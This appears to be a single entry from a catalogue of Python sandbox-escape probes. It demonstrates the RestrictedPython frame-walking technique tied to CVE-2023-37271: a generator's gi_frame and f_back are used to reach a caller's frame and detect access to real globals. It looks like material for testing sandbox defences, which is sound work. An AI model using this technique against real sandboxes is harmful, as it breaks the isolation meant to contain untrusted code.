# technique: gi_frame, then f_back to the callers
# goal: frames
# source: RestrictedPython, CVE-2023-37271
def walk():
    yield me.gi_frame.f_back


me = walk()
frame = next(me)
if frame.f_globals is globals():
    print('ESCAPED frame of', frame.f_code.co_name)
